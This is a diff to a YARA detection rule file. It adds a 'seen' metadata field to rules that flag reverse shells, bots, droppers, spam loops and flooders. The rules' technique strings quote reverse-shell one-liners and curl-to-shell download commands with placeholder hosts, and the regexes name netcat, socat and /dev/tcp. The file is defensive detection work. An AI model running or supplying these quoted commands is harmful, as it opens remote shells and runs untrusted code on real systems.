@@ -128,6 +128,7 @@ rule bot_revshell_dev_tcp : bot
         description = "Shell wired to a TCP/UDP connection through bash's /dev/tcp pseudo-device"
         severity = "critical"
         technique = "bash -i >& /dev/tcp/H/P 0>&1; exec N<>/dev/tcp/H/P with sh <&N or a read loop on N"
+        seen = "pre"
     strings:
         // stdin of the shell duplicated from the connection (0>&1, 0<&1)
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
@@ -157,6 +158,7 @@ rule bot_revshell_netcat_pipe : bot
         description = "Shell served over netcat/telnet/openssl: nc -e /bin/sh, or a shell piped to and from the connection"
         severity = "critical"
         technique = "nc -e/-c sh; mkfifo/mknod pipe: cat F | sh -i | nc H P > F; nc H P | sh; telnet H P | sh | telnet H P2"
+        seen = "pre"
     strings:
         $e1 = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
         $e2 = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?\$\{?SHELL\b/
@@ -178,6 +180,7 @@ rule bot_revshell_socat : bot
         description = "socat joining a TCP/TLS connection to a shell (connect-back or bind)"
         severity = "critical"
         technique = "socat tcp:H:P exec:'bash -li',pty,stderr | socat TCP-LISTEN:P,fork EXEC:/bin/sh"
+        seen = "pre"
     strings:
         $x = /\bsocat\s[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
         $t = /\bsocat\s[^\n]{0,300}\b(tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp-listen|tcp4-listen|openssl|openssl-connect|openssl-listen|ssl|udp|udp-connect)[:-]/ nocase
@@ -191,6 +194,7 @@ rule bot_revshell_gawk_inet : bot
         description = "gawk network coprocess that reads commands from a connection and runs them"
         severity = "high"
         technique = "awk 'BEGIN{s=\"/inet/tcp/0/H/P\"; while(...) { s |& getline c; while ((c |& getline) > 0) print |& s }}'"
+        seen = "pre"
     strings:
         $i = /\/inet[46]?\/(tcp|udp)\/[0-9]{1,5}\/[^\/\s"']{1,100}\/[0-9]{1,5}/
         $co = "|&" ascii
@@ -205,6 +209,7 @@ rule bot_revshell_fd_handoff : bot
         description = "Shell started on a socket's descriptor (sh -i <&3 >&3 2>&3) in a script that opens a socket"
         severity = "critical"
         technique = "php -r fsockopen + exec(\"/bin/sh -i <&3 >&3 2>&3\"), ruby TCPSocket + exec sprintf(\"/bin/sh -i <&%d >&%d\")"
+        seen = "pre"
     strings:
         $h = /\b(ba|z|k|da)?sh (-i )?0?<\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])[^\n]{0,40}>\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])/
         $s1 = "fsockopen" ascii
@@ -226,6 +231,7 @@ rule bot_revshell_perl : bot
         description = "Perl connect-back/bind shell: a socket attached to STDIN/STDOUT and a shell run, or commands read from the socket and their output sent back"
         severity = "critical"
         technique = "socket()/IO::Socket::INET + connect/accept + open(STDIN,\">&S\")/dup2/fdopen + exec /bin/sh; while(<$s>){print $s `$_`}"
+        seen = "pre"
     strings:
         $sk1 = /\bsocket\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(&?PF_INET6?|&?AF_INET6?|2)\b/
         $sk2 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\b/
@@ -284,6 +290,7 @@ rule bot_revshell_python : bot
         description = "Python connect-back/bind shell: socket duplicated onto stdio and a shell spawned, or commands received, run and sent back"
         severity = "critical"
         technique = "socket.socket + connect/accept + os.dup2(s.fileno(),N) + pty.spawn/subprocess sh; recv -> subprocess/os.popen -> send"
+        seen = "pre"
     strings:
         $sk1 = /\bsocket\.socket\s{0,2}\(/
         $sk2 = /\bsocket\s{0,2}\(\s{0,2}(socket\.)?AF_INET6?\b/
@@ -333,6 +340,7 @@ rule bot_revshell_interpreter_oneliner : bot
         description = "Ruby/PHP/Lua one-liner that connects out and runs a shell on the connection"
         severity = "critical"
         technique = "ruby -rsocket -e 'TCPSocket...exec sh'; php -r '$s=fsockopen(...);exec(\"/bin/sh -i <&3 >&3\")'; lua -e socket + io.popen"
+        seen = "pre"
     strings:
         $rb = /\bruby\s[^\n]{0,20}-rsocket\b[^\n]{0,400}\b(exec|spawn|system|popen|IO\.popen)\b/
         $php = /\bphp[0-9.]{0,4}\s{1,4}-r\s{1,4}['"][^\n]{0,200}\b(fsockopen|stream_socket_client|socket_create)\s{0,2}\([^\n]{0,300}\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
@@ -347,6 +355,7 @@ rule bot_revshell_node : bot
         description = "Node.js connect-back/bind shell: a net socket piped to and from a spawned shell"
         severity = "critical"
         technique = "require('net') + require('child_process').spawn('/bin/sh') + socket.pipe(sh.stdin), sh.stdout.pipe(socket)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $r1 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]net['"]\s{0,2}\)/
         $r2 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]child_process['"]\s{0,2}\)/
@@ -420,6 +429,7 @@ rule bot_decode_eval_script : obfuscation bot
         description = "Perl/Python code evaluating decoded or decompressed data (eval unpack/decode_base64, exec b64decode/zlib/marshal/chr-join)"
         severity = "high"
         technique = "eval unpack u => q{...}; eval pack 'H*', ...; exec(zlib.decompress(...)); exec(''.join(map(chr, [...]))); exec(bytes.fromhex(...))"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $p1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?(decode_base64|unpack\s{0,4}\(?\s{0,4}["']?(u|H\*|m0?|B\*)["']?\s{0,4}(,|=>)|pack\s{0,4}\(?\s{0,4}["']?[HB]\*["']?\s{0,4}(,|=>)|uncompress\s{0,2}\(|Compress::Zlib::uncompress)/
         $p2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.(b64decode|b32decode|b16decode|decodebytes|decodestring|a85decode)|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.(unhexlify|a2b_base64)|lzma\.decompress|bz2\.decompress|gzip\.decompress|__import__\s{0,2}\(\s{0,2}['"](base64|zlib|marshal|codecs|binascii)['"])/
@@ -465,6 +475,7 @@ rule bot_php_back_connect : bot
         description = "PHP back-connect shell: socket opened and a shell bound to it"
         severity = "critical"
         technique = "fsockopen/socket_create + proc_open/popen of /bin/sh"
+        seen = "pre"
     strings:
         $s1 = "fsockopen(" ascii
         $s2 = "socket_create(" ascii
@@ -500,6 +511,7 @@ rule bot_backdoor_recipe_in_doc : bot
         description = "Documentation or web asset quoting a reverse-shell recipe (not a script)"
         severity = "medium"
         technique = "reverse-shell one-liners (/dev/tcp, nc -e, socat exec) in Markdown/HTML/JS/text"
+        seen = "pre"
     strings:
         $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
         $a2 = /\b(ba|z|k|da)?sh -i\s{0,4}[12]?\s{0,2}[<>]\s{0,2}&\s{0,4}\/dev\/(tcp|udp)\//
@@ -549,6 +561,7 @@ rule bot_irc_script : bot
         description = "IRC bot: speaks IRC over a raw socket (NICK/USER/JOIN, PING/PONG, PRIVMSG) and runs commands or attacks it is sent"
         severity = "critical"
         technique = "IRC control loop (C&C over IRC) with command dispatch to a shell, a flood or a download"
+        seen = "pre"
     strings:
         // a command built from what arrived (a variable), not a fixed one
         $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s{0,4}\(?\s{0,4}(["'][^"'\n]{0,40})?\$/
@@ -581,6 +594,7 @@ rule bot_irc_raw_bot : bot
         description = "IRC bot over a raw socket that detaches and hides itself or crawls the web for targets"
         severity = "high"
         technique = "IRC protocol client + fork/setsid/$0 rewrite/ignored SIGHUP, or + LWP/HTTP requests (scanner bot)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $h1 = /\bfork\s{0,2}(\(\s{0,2}\))?\s{0,4}(;|\)|\|\||and|or)/
         $h2 = /\bsetsid\b/
@@ -625,6 +639,7 @@ rule bot_smtp_spam_loop_script : bot mailer
         description = "Script sending mail to every address of a list (SMTP library, raw SMTP or sendmail inside a loop over a list file or argv)"
         severity = "high"
         technique = "a whole message sent per list entry: sendmail(%m) / MIME::Lite / smtplib .sendmail / | sendmail, or MAIL FROM then RCPT TO, inside while(<LIST>) / for x in open(f) / while read"
+        seen = "pre"
     strings:
         // a whole message sent by one call
         $w1 = /\bsendmail\s{0,4}\(\s{0,4}%/
@@ -735,6 +750,7 @@ rule bot_perl_flooder_scanner : bot
         description = "Perl/Python DDoS flooder or mass scanner: packets sent in an endless or timed loop to random or sweeping ports"
         severity = "high"
         technique = "UDP/TCP/HTTP flood or port-range scanner script"
+        seen = "pre"
     strings:
         $f1 = /\b(udp|tcp|syn|http|icmp|ack)\s{0,2}_?flood/ nocase
         $f5 = /\bport\s{0,2}_?scan/ nocase
@@ -767,6 +783,7 @@ rule bot_socks_proxy_script : bot
         description = "Script running its own SOCKS proxy server (listens, accepts, answers the SOCKS handshake, relays)"
         severity = "medium"
         technique = "Perl/Python SOCKS4/5 server: listen + accept + version byte 4/5 handshake + fork/threads relay"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $l1 = /Listen\s{0,4}=>|\blisten\s{0,2}\(/
         $a1 = /->\s{0,2}accept\b|\baccept\s{0,2}\(|\.accept\s{0,2}\(\s{0,2}\)/
@@ -788,6 +805,7 @@ rule bot_sqli_scanner_script : hacktool
         description = "SQL injection tool: an HTTP client sending UNION SELECT / information_schema probes to target URLs"
         severity = "medium"
         technique = "LWP/requests/urllib loop over targets or dorks with injected UNION SELECT, concat(0x..), information_schema"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $h1 = /LWP::UserAgent|HTTP::Request|LWP::Simple|WWW::Mechanize|HTTP::Tiny/
         $h2 = /\brequests\.(get|post)\s{0,2}\(|urllib(2|\.request)?\.urlopen\s{0,2}\(/
@@ -806,6 +824,7 @@ rule bot_process_masquerade : bot
         description = "Script renames its own process to look like a system daemon and detaches"
         severity = "high"
         technique = "$0 / setproctitle / prctl(PR_SET_NAME) process-name masquerading (fake httpd/sshd/crond/kworker)"
+        seen = "pre"
     strings:
         $p1 = /\$0\s{0,4}=\s{0,4}["']?\$?[\w\[\]\/ .:-]{0,40}["']?\s{0,4};/
         $p2 = /\bsetproctitle\s{0,2}\(/
@@ -928,6 +947,7 @@ rule bot_fetch_pipe_interpreter : bot
         description = "Downloads code and runs it without saving it (fetch piped to a shell or interpreter, or eval'd) from a plain-HTTP, bare-IP or unchecked source"
         severity = "high"
         technique = "curl -s http://IP/x | sh; wget -qO- URL | perl; sh -c \"$(curl URL)\"; eval \"$(wget -O- URL)\"; bash <(curl URL)"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $p1 = /\b(curl|wget|fetch|lwp-request|lwp-download|busybox\s{1,4}wget)\s[^\n|;&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n|;&]{0,200}\|\s{0,4}(sudo\s{1,4}|exec\s{1,4}|nohup\s{1,4})?(\/usr)?(\/local)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby)\b/
         $p2 = /\b(sh|bash|zsh|ksh|dash|perl|python[0-9.]{0,4}) (-c|-e) ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
@@ -957,6 +977,7 @@ rule bot_fetch_then_exec : bot
         description = "Downloads a file, then makes it executable or runs it (dropper), from a suspicious source or into a temp dir"
         severity = "high"
         technique = "wget/curl/fetch URL -O F; chmod +x F; ./F | cd /tmp; wget URL/bot.txt; perl bot.txt"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         // suspicious source: download, chmod +x, run it; or an interpreter on it
         $dc1 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n]{0,300}(;|&&|\n)[^\n]{0,100}\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|TMP)[\w.\/-]{1,80}/
@@ -974,6 +995,7 @@ rule bot_fetch_exec_perl : bot
         description = "Perl script that downloads code and evals it, or saves a download and runs it"
         severity = "high"
         technique = "eval(get(URL)); getstore(URL, F) + chmod/system(F); $ua->get(URL)->content eval'd"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $e1 = /\beval\s{0,4}[({]?\s{0,4}(LWP::Simple::)?get\s{0,4}\(\s{0,4}['"$]/
         $e2 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,4}->\s{0,2}(get|request)\s{0,2}\([^)\n]{0,200}\)\s{0,4}->\s{0,2}(decoded_)?content/
@@ -995,6 +1017,7 @@ rule bot_fetch_exec_python : bot
         description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
         severity = "high"
         technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
@@ -1017,6 +1040,7 @@ rule bot_decode_pipe_shell : bot obfuscation
         description = "Encoded text decoded and run by a shell (echo BLOB | base64 -d | sh, eval \"$(... | base64 -d)\")"
         severity = "high"
         technique = "base64 -d / xxd -r -p / openssl base64 -d / printf '\\x..' piped to sh or eval'd"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $b1 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|]{0,40}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
         $b2 = /\|\s{0,4}base64\s{1,4}(-d|--decode|-D|-di)\s{0,4}\)/
@@ -1038,6 +1062,7 @@ rule bot_encoded_backdoor_payload : bot obfuscation
         description = "Base64-wrapped Perl/Python/shell/PHP payload run by eval/exec whose decoded text is a reverse shell, bot or spam loop"
         severity = "critical"
         technique = "eval(decode_base64('...')) / exec(base64.b64decode('...')) / echo ... | base64 -d | sh, payload: socket + dup + shell, IRC, SMTP"
+        seen = "bediger4000,nikicat,shipcod3,tennc"
     strings:
         $w1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?decode_base64\s{0,4}\(/
         $w2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.b64decode|base64\.decodebytes|base64\.decodestring|codecs\.decode|__import__\s{0,2}\(\s{0,2}['"]base64['"]\s{0,2}\)\s{0,2}\.\s{0,2}b64decode|compile\s{0,2}\(\s{0,2}base64\.b64decode)/
